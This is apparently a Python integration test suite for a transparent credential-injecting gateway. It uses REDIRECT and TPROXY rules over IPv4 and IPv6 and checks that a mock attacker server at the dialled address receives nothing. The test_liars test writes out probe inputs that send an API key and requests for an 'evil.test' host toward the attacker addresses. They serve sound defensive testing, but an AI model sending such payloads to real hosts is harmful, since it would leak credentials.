"""A transparent listener behind real redirections: REDIRECT and TPROXY, IPv4 and IPv6.

The sandbox is a network namespace that is cabled to another, where the gateway and the origins
are.  An attacker's server stands at the address that the clients dial; it must never be sent
anything.
"""

from __future__ import annotations

import contextlib
import os
import socket
import ssl
import subprocess
import threading
import time
from pathlib import Path

from twisted.trial.unittest import SynchronousTestCase

from tests.integration.case import need
from tests.integration.scene import API, BEARER, GIT, echo, new_secret
from tests.support.certs import ThrowawayCA
from tests.support.gateway import Credential, Gateway, Rule
from tests.support.netns import Namespace, command, join, need_namespaces
from tests.support.origin import Origin
from tests.support.ports import free_port
from tests.support.traces import traces

ATTACKER = {4: "203.0.113.66", 6: "2001:db8::66"}
REDIRECT = """
table inet slapenir {{
  chain prerouting {{
    type nat hook prerouting priority dstnat;
    iifname "{link}" meta l4proto tcp redirect to :{port}
  }}
}}
"""
TPROXY = """
table inet slapenir {{
  chain prerouting {{
    type filter hook prerouting priority mangle;
    iifname "{link}" meta nfproto ipv4 meta l4proto tcp tproxy ip to :{port} meta mark set 1 accept
    iifname "{link}" meta nfproto ipv6 meta l4proto tcp tproxy ip6 to :{port} meta mark set 1 accept
  }}
}}
"""


class Attacker:
    """Accepts at every address it is given and keeps what it is sent."""

    def __init__(self, port: int) -> None:
        self.received = bytearray()
        self._sockets = [
            socket.create_server((address, port), family=family)
            for family, address in (
                (socket.AF_INET, ATTACKER[4]),
                (socket.AF_INET6, ATTACKER[6]),
            )
        ]
        for one in self._sockets:
            threading.Thread(target=self._serve, args=(one,), daemon=True).start()

    def _serve(self, listener: socket.socket) -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            self.received += b"<connection>"
            connection.settimeout(2)
            with contextlib.suppress(OSError), connection:
                while data := connection.recv(65536):
                    self.received += data

    def close(self) -> None:
        """Stop listening."""
        for one in self._sockets:
            one.close()


class World:
    """Two namespaces, the gateway, an origin and the attacker, with one kind of redirection."""

    def __init__(self, directory: Path, rules: str) -> None:
        self.directory = directory
        self.sandbox, self.outside = Namespace(), Namespace()
        self._undo = [self.sandbox.remove, self.outside.remove]
        try:
            self._build(rules)
        except BaseException:
            self.close()
            raise

    def _build(self, rules: str) -> None:
        _, link = join(self.sandbox, self.outside)
        outside, ca = self.outside, ThrowawayCA(self.directory)
        for address in ATTACKER.values():
            outside.ip("addr", "add", address, "dev", "lo")
        self.secret = new_secret("key-")
        credential = Credential("api", self.secret, (API,), (BEARER,), None, "API_KEY")
        self.port = free_port()
        with outside.inside():
            self.origin = Origin(echo, ca.server_context(API))
            self._undo.insert(0, self.origin.close)
            self.raw = Origin(echo)
            self._undo.insert(0, self.raw.close)
            self.attacker = Attacker(self.origin.port)
            self._undo.insert(0, self.attacker.close)
            place = self.directory / "gateway"
            place.mkdir(mode=0o700)
            self.gateway = Gateway(
                place,
                [credential],
                [
                    Rule("api", (API,), (self.origin.port,), ("api",)),
                    Rule("plain", (GIT,), (self.raw.port,), scheme="http"),
                ],
                {API: self.origin.port, GIT: self.raw.port},
                ca.ca_file,
                extra=(
                    f'[[listener]]\nendpoint = "tcp:{self.port}"\nmode = "transparent"\n'
                    'identity = "sandbox"\n'
                ),
            )
            self._undo.insert(0, self.gateway.stop)
            self.gateway.start()
            if "tproxy" in rules:
                for family, every in (("-4", "0.0.0.0/0"), ("-6", "::/0")):
                    outside.ip(family, "rule", "add", "fwmark", "1", "lookup", "100")
                    outside.ip(family, "route", "add", "local", every, "dev", "lo", "table", "100")
        outside.nft(rules.format(link=link, port=self.port))
        self.environment = {
            key: value
            for key, value in self.gateway.client_environment().items()
            if not key.lower().endswith("_proxy")
        }

    def curl(self, version: int, host: str, *more: str, scheme: str = "https") -> bytes:
        """Run curl in the sandbox, made to dial the attacker's address for a name."""
        port = {API: self.origin.port, GIT: self.raw.port}.get(host, self.origin.port)
        address = ATTACKER[version]
        where = f"{host}:{port}:{'[' + address + ']' if version == 6 else address}"
        with self.sandbox.inside():
            done = subprocess.run(
                [
                    need("curl"), "-sS", "-i", "--max-time", "10", "--resolve", where,
                    *more, f"{scheme}://{host}:{port}/v1/x",
                ],
                env=self.environment,
                capture_output=True,
                timeout=20,
            )  # fmt: skip
        return done.stdout + done.stderr

    def dial(self, address: str, port: int) -> socket.socket:
        """Return a connection from the sandbox."""
        with self.sandbox.inside():
            family = socket.AF_INET6 if ":" in address else socket.AF_INET
            conn = socket.socket(family)
            conn.settimeout(5)
            conn.connect((address, port))
            return conn

    def reasons(self) -> list[str]:
        """Return the reason of every denial so far."""
        records = self.gateway.records()
        return [one["reason"] for one in records if one.get("action") == "deny"]

    def close(self) -> None:
        """Stop everything."""
        for undo in self._undo:
            undo()


def ending(conn: socket.socket) -> tuple[bytes, float]:
    """Read a connection to its end; return what came and how long it took."""
    began, data = time.monotonic(), b""
    with contextlib.suppress(ConnectionError), conn:
        while more := conn.recv(65536):
            data += more
    return data, time.monotonic() - began


class Redirected:
    """What holds with any kind of redirection."""

    rules = ""

    def setUp(self) -> None:
        need_namespaces("nft", "curl")
        directory = Path(self.mktemp())
        directory.mkdir(mode=0o700)
        self.world = World(directory.resolve(), self.rules)
        self.addCleanup(self.world.close)

    def test_clients_that_know_no_proxy_T093(self) -> None:
        """T186: the origin sees the real key and curl never; the attacker, whose address curl
        dialled, sees nothing."""
        world = self.world
        key = world.environment["API_KEY"]
        for version in (4, 6):
            said = world.curl(version, API, "-H", f"Authorization: Bearer {key}")
            self.assertIn(b"HTTP/1.1 200", said)
            self.assertEqual(traces(said, world.secret), [])
        seen = [one.header(b"authorization") for one in world.origin.requests]
        self.assertEqual(seen, [b"Bearer " + world.secret.encode()] * 2)
        self.assertEqual(world.attacker.received, b"")

    def test_plain_http_T094(self) -> None:
        """By its Host field; with a placeholder it is a honeytoken, wherever it was going."""
        world = self.world
        said = world.curl(4, GIT, scheme="http")
        self.assertIn(b"HTTP/1.1 200", said)
        self.assertEqual(len(world.raw.requests), 1)
        key = world.environment["API_KEY"]
        said = world.curl(4, GIT, "-H", f"Authorization: Bearer {key}", scheme="http")
        self.assertIn(b"HTTP/1.1 403", said)
        self.assertEqual(world.reasons(), ["honeytoken"])
        self.assertEqual(len(world.raw.requests), 1)
        self.assertEqual(world.attacker.received, b"")

    def test_liars_T090_T092(self) -> None:
        """First bytes of every kind to the attacker's addresses: nothing of it gets there."""
        world = self.world
        key = world.environment["API_KEY"].encode()
        beginnings = [
            b"SSH-2.0-x\r\n",
            b"\x05\x01\x00",
            key,
            b"GET / HTTP/1.0\r\nAuthorization: Bearer %s\r\n\r\n" % key,
            b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % (b"evil.test", API.encode()),
            b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (API.encode(), API.encode()),
            b"\x16\x03\x01\x00\x05hello",
        ]
        for address in ATTACKER.values():
            for data in beginnings:
                conn = world.dial(address, world.origin.port)
                conn.sendall(data)
                conn.shutdown(socket.SHUT_WR)
                _, seconds = ending(conn)
                self.assertLess(seconds, 3)
            for name in (None, "evil.test"):
                conn = world.dial(address, world.origin.port)
                context = ssl.create_default_context(cafile=str(world.gateway.ca_file))
                context.check_hostname = False
                with self.assertRaises(ssl.SSLError):
                    context.wrap_socket(conn, server_hostname=name)
                conn.close()
        self.assertEqual(world.attacker.received, b"")
        self.assertIn("name_missing", world.reasons())
        self.assertEqual(len(world.origin.requests) + len(world.raw.requests), 0)

    def assert_reset(self, address: str) -> None:
        """Dial the transparent port; it is reset within a second, maybe before connect returns.

        Time counts from the connection on: its first packet may wait for the neighbour's address.
        """
        with contextlib.suppress(ConnectionResetError):
            data, seconds = ending(self.world.dial(address, self.world.port))
            self.assertEqual(data, b"")
            self.assertLess(seconds, 1)

    def descriptors(self) -> int:
        """Return how many files the gateway has open."""
        return len(os.listdir(f"/proc/{self.world.gateway.process.pid}/fd"))

    def test_the_port_itself_T032(self) -> None:
        """The transparent port dialled directly: reset at once, recorded, no loop, nothing kept."""
        world = self.world
        self.remove_rules()
        before = self.descriptors()
        for address in ("10.99.1.1", "fd99:1::1") * 10:
            self.assert_reset(address)
        self.assertEqual(world.reasons(), ["address_own_listener"] * 20)
        self.assertLessEqual(self.descriptors(), before + 1)

    def remove_rules(self) -> None:
        """Let the sandbox reach the outside's own addresses."""
        with self.world.outside.inside():
            command("nft", "flush", "ruleset")


class RedirectTests(Redirected, SynchronousTestCase):
    """REDIRECT: the kernel rewrites the destination and remembers it."""

    rules = REDIRECT

    def test_the_port_itself_redirected_T032(self) -> None:
        """With the rules in place a dial of the port is redirected to itself: the same."""
        world = self.world
        self.assert_reset("10.99.1.1")
        self.assertEqual(world.reasons(), ["address_own_listener"])


class TproxyTests(Redirected, SynchronousTestCase):
    """TPROXY: nothing is rewritten."""

    rules = TPROXY
